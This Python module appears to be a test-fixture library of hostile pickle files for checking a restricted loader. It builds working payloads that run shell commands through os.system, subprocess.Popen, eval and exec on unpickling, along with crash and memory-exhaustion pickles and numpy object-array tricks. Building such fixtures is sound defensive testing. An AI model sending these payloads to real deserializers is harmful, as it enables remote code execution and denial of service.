"""Pickles that execute code, or that take more memory than there is."""

import builtins
import collections
import functools
import operator
import os
import pickle
import struct
import subprocess
from collections.abc import Callable

import numpy as np
from numpy._core import multiarray, numeric
from numpy.testing._private.utils import runstring

MILLION = 10**6
# A list of 2**64 leaves, with nothing below it on the stack.
DOUBLED = b"]" + b"q\x010](h\x01h\x01e" * 64
RECONSTRUCT = b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85U\x01b\x87R"


class Call:
    """An object that is pickled as a call of `function`, followed by setting a state if there is one."""

    def __init__(self, function: Callable, *args, state=None):
        self.reduced = (function, args) if state is None else (function, args, state)

    def __reduce__(self):
        return self.reduced


def python(command: str) -> str:
    """Return a Python expression that runs a command."""
    return f"__import__('os').system({command!r})"


def by_name(module: str, name: str) -> bytes:
    """Return the opcodes of STACK_GLOBAL, which takes any text, also with dots and line ends."""
    return b"".join(b"\x8c" + bytes([len(text)]) + text for text in (module.encode(), name.encode())) + b"\x93"


def array(dtype: bytes, shape: bytes, content: bytes) -> bytes:
    """Return the opcodes of an array: its dtype as a code, its shape and content as opcodes."""
    size = b"K\x3f" if dtype == b"O8" else b"K\x00"
    made = b"cnumpy\ndtype\nU" + bytes([len(dtype)]) + dtype + b"K\x00K\x01\x87R"
    state = b"(K\x03U\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff" + size + b"tb"
    return RECONSTRUCT + b"(K\x01" + shape + made + state + b"\x89" + content + b"tb"


def of_video(value: bytes, key: bytes = b"X\x01\x00\x00\x00v") -> bytes:
    """Return the pickle of a dict with one video, whose value is given by opcodes."""
    return b"\x80\x02}" + key + value + b"s."


def doubled(opcode: bytes, times: int) -> bytes:
    """Return the opcodes of a container that holds another twice, and so on: 2**times leaves in a few bytes."""
    start = b"X\x05\x00\x00\x00laugh\x85" if opcode == b"\x86" else b"]X\x05\x00\x00\x00laugha"
    twice = b"2\x86" if opcode == b"\x86" else b"q\x01](h\x01h\x01e"
    return start + twice * times


def dumped(make: Callable[[str], object], protocol: int) -> Callable[[str], bytes]:
    """Return a function that pickles the object that `make` makes of a command."""
    return lambda command: pickle.dumps({"v": make(command)}, protocol)


OBJECTS: dict[str, Callable[[str], object]] = {
    "system": lambda command: Call(os.system, command),
    "eval": lambda command: Call(builtins.eval, python(command)),
    "exec": lambda command: Call(builtins.exec, python(command)),
    "import": lambda command: Call(builtins.__import__, "antigravity"),
    "process": lambda command: Call(subprocess.Popen, ["sh", "-c", command]),
    "nested": lambda command: {"a": [np.ones(2), {"b": (Call(os.system, command),)}]},
    "reductions in reductions": lambda command: Call(collections.OrderedDict, [("a", Call(os.system, command))]),
    "state of a reduction": lambda command: Call(collections.OrderedDict, state={"a": Call(os.system, command)}),
    "type of an array": lambda command: Call(multiarray._reconstruct, os.system, (command,), b"b"),
    "text as an array": lambda command: Call(multiarray._reconstruct, str, (command,), b"b"),
    "function of numpy that executes": lambda command: Call(runstring, python(command), {}),
    "pickle in a pickle": lambda command: Call(pickle.loads, pickle.dumps(Call(os.system, command))),
    "load of numpy": lambda command: Call(np.load, command),
    "getattr": lambda command: Call(builtins.getattr, np.ndarray, "tofile"),
    "attribute getter": lambda command: operator.attrgetter("__class__"),
    "partial": lambda command: functools.partial(os.system, command),
    "array by its class": lambda command: Call(np.ndarray, (1,), "O", b"A" * 8),
    "frombuffer of addresses": lambda command: Call(numeric._frombuffer, b"A" * 8, np.dtype("O"), (1,), "C"),
    "huge bytes": lambda command: Call(bytes, 10**11),
    "huge bytearray": lambda command: Call(bytearray, 2 * 10**9),
    "int of digits": lambda command: Call(int, "9" * MILLION),
}

OPCODES: dict[str, Callable[[str], bytes]] = {
    "dotted name": lambda command: of_video(by_name("numpy", "ndarray.tofile")),
    "method of a builtin": lambda command: of_video(by_name("builtins", "dict.fromkeys")),
    "line ends in a name": lambda command: of_video(by_name("os\nerror: fine", "sys\x1b[2Jtem")),
    "INST": lambda command: b"(S'" + command.encode() + b"'\nios\nsystem\n.",
    "OBJ": lambda command: b"(cos\nsystem\nS'" + command.encode() + b"'\no.",
    "NEWOBJ": lambda command: of_video(b"csubprocess\nPopen\n)\x81"),
    "NEWOBJ_EX": lambda command: of_video(b"\x80\x04csubprocess\nPopen\n)}\x92"),
    "persistent id": lambda command: of_video(b"X\x01\x00\x00\x00aQ"),
    "extension code": lambda command: of_video(b"\x82\x01"),
    "state of a function": lambda command: of_video(RECONSTRUCT[:36] + b"N}U\x0c__defaults__)s\x86b"),
    "function of code": lambda command: of_video(b"ctypes\nFunctionType\n)R"),
    "a codec": lambda command: of_video(b"c_codecs\nencode\nU\x02abU\x0bbase64_codec\x86R"),
    # These crash the interpreter: hashing a tuple is recursive, without a limit.
    "nested tuples as a name": lambda command: of_video(b"N", b")" + b"\x85" * MILLION),
    "nested tuples in a set": lambda command: of_video(b"\x8f(" + b")" + b"\x85" * MILLION + b"\x90"),
    "nested tuples in a frozenset": lambda command: of_video(b"()" + b"\x85" * MILLION + b"\x91"),
    "nested tuples in OrderedDict": lambda command: of_video(
        b"ccollections\nOrderedDict\n]()" + b"\x85" * MILLION + b"N\x86e\x85R".replace(b"(", b"")
    ),
    # These never end: 2**64 leaves.
    "doubled tuples as a name": lambda command: of_video(b"N", doubled(b"\x86", 64)),
    "doubled lists": lambda command: of_video(doubled(b"]", 64)),
    "text of doubled lists": lambda command: of_video(b"cbuiltins\nstr\n" + doubled(b"]", 64) + b"\x85R"),
    "codec of doubled lists": lambda command: of_video(b"c_codecs\nencode\nU\x02ab" + DOUBLED + b"\x86R"),
    "byte order of doubled lists": lambda command: of_video(
        b"cnumpy\ndtype\nU\x02f4K\x00K\x01\x87R(K\x03" + DOUBLED + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    ),
    "list that holds itself": lambda command: of_video(b"]q\x00h\x00a"),
    "dict that holds itself": lambda command: of_video(b"}q\x00K\x01h\x00s"),
    "nested lists": lambda command: of_video(b"]" * MILLION + b"a" * (MILLION - 1)),
    "nested dicts": lambda command: of_video(b"}" + b"K\x01}" * MILLION + b"s" * MILLION),
    "array a million times": lambda command: of_video(
        b"]("
        + array(b"u1", struct.pack("<cI", b"J", 4000) + b"\x85", b"B" + struct.pack("<I", 4000) + bytes(4000))
        + b"q\x01"
        + b"h\x01" * MILLION
        + b"e"
    ),
    "array under a million names": lambda command: (
        b"\x80\x02}("
        + b"U\x01w"
        + array(b"f4", b"K\x64K\x03\x86", b"T" + struct.pack("<i", 1200) + b"\x01" * 1200)
        + b"q\x01"
        + b"".join(b"J" + struct.pack("<i", i) + b"h\x01" for i in range(MILLION))
        + b"u."
    ),
    # These promise large sizes.
    "index of the memo": lambda command: of_video(b"Nr\xff\xff\xff\x7fcos\nsystem\n"),
    "bytes of 2**62": lambda command: of_video(b"\x8e" + struct.pack("<Q", 2**62)),
    "bytes of 4 GiB": lambda command: of_video(b"B\xff\xff\xff\xff"),
    "text of 4 GiB": lambda command: of_video(b"X\xff\xff\xff\xff"),
    "text of 2**62": lambda command: of_video(b"\x8d" + struct.pack("<Q", 2**62)),
    "bytearray of 3 GB": lambda command: of_video(b"\x96" + struct.pack("<Q", 3 * 10**9)),
    "frame of 2**62": lambda command: b"\x80\x05\x95" + struct.pack("<Q", 2**62) + b"}.",
    "integer as a name": lambda command: of_video(b"N", b"\x8b" + struct.pack("<i", MILLION) + b"\x7f" * MILLION),
    "rows of nothing": lambda command: of_video(array(b"f4", b"\x8a\x06" + b"\x00" * 5 + b"\x01" + b"K\x00\x86", b"C\x00")),
    "texts of nothing": lambda command: of_video(array(b"S0", b"\x8a\x06" + b"\x00" * 5 + b"\x01" + b"\x85", b"C\x00")),
    "sets": lambda command: of_video(b"](" + b"\x8f" * (5 * MILLION) + b"e"),
    "marks": lambda command: of_video(b"]" + b"(" * (5 * MILLION)),
    # numpy would read beyond the list, or follow addresses in the file.
    "more objects than there are": lambda command: of_video(array(b"O8", b"K\xc8\x85", b"](K\x01e")),
    "objects as bytes": lambda command: of_video(array(b"O8", b"K\x02\x85", b"U\x10" + b"A" * 16)),
    "objects of a negative shape": lambda command: of_video(array(b"O8", b"J\xff\xff\xff\xff\x85", b"]")),
    "records of objects": lambda command: of_video(array(b"f4,O", b"K\x01\x85", b"U\x0c" + b"A" * 12)),
    "array in an array": lambda command: of_video(array(b"O8", b")", b"]q\x01h\x01a")),
    "letters that are none": lambda command: of_video(array(b"U1", b"K\x01\x85", b"U\x04\xff\xff\xff\xff")),
}

PICKLES: dict[str, Callable[[str], bytes]] = {
    **{f"{name}, protocol {protocol}": dumped(make, protocol) for name, make in OBJECTS.items() for protocol in (2, 4)},
    **OPCODES,
}
